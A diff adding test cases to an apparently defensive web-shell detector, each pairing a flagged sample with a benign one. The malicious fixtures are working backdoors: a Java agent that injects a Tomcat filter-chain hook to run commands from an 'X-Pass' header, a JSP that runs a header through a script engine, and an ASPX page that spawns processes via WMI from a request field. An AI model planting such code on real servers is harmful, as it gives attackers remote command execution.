@@ -454,3 +454,57 @@ test('jsp data flow: lambdas, constructor fields, generic foreach headers and th
 %>`;
   expect('shop.jsp', page, 'clean');
 });
+
+test('java: Javassist source hooked into the filter chain reads the request ($1) and runs it; a timing hook is clean', () => {
+  const agent = (body: string) => `import java.lang.instrument.*;
+import javassist.*;
+public class Agent {
+  public static void agentmain(String args, Instrumentation inst) throws Exception {
+    inst.addTransformer(new ClassFileTransformer() {
+      public byte[] transform(ClassLoader l, String name, Class<?> c, java.security.ProtectionDomain d, byte[] b) {
+        if (!"org/apache/catalina/core/ApplicationFilterChain".equals(name)) return null;
+        try {
+          CtClass cc = ClassPool.getDefault().get("org.apache.catalina.core.ApplicationFilterChain");
+          CtMethod m = cc.getDeclaredMethod("doFilter");
+          m.insertBefore(${JSON.stringify(body)});
+          return cc.toBytecode();
+        } catch (Exception e) { return null; }
+      }
+    }, true);
+  }
+}`;
+  expect('Agent.java', agent('{ String k = ((javax.servlet.http.HttpServletRequest) $1).getHeader("X-Pass"); if (k != null) { Runtime.getRuntime().exec(k); } }'), 'malicious', [
+    'flow/request-derived-variable-reaches-runtime-exec',
+  ]);
+  expect('Timing.java', agent('{ long t0 = System.nanoTime(); app.Metrics.count("doFilter", t0); }'), 'clean');
+});
+
+test('jsp: the request handed to a script engine whose fixed script runs commands; request values for a fixed calculation are clean', () => {
+  const shell = `<%
+  javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName("js");
+  e.put("q", request);
+  String s = "var c = q.getHeader('X-C'); java.lang.Runtime.getRuntime().exec(c);";
+  e.eval(s);
+%>`;
+  expect('bind.jsp', shell, 'malicious', ['flow/request-input-reaches-a-fixed-script-that-runs-commands-or-loads-classes']);
+  const calc = `<%
+  javax.script.ScriptEngine e = new javax.script.ScriptEngineManager().getEngineByName("js");
+  e.put("qty", request.getParameter("qty"));
+  out.print(e.eval("parseInt(qty) * 2"));
+%>`;
+  expect('calc2.jsp', calc, 'clean');
+});
+
+test('aspx: WMI Win32_Process.Create with a request command; a WMI query of services is clean', () => {
+  const page = (body: string) => `<%@ Page Language="C#" %><script runat="server">
+protected void Page_Load(object s, EventArgs e) {
+${body}
+}
+</script>`;
+  expect('wmi.aspx', page('new System.Management.ManagementClass("Win32_Process").InvokeMethod("Create", new object[] { Request["c"] });'), 'malicious', [
+    'flow/request-derived-variable-reaches-wmi-process-creation',
+  ]);
+  const query = page(`var name = Request["svc"];
+  foreach (var o in new System.Management.ManagementObjectSearcher("SELECT State FROM Win32_Service WHERE Name = 'W3SVC'").Get()) Response.Write(Server.HtmlEncode(o["State"] + name.Length.ToString()));`);
+  expect('svc.aspx', query, 'clean');
+});
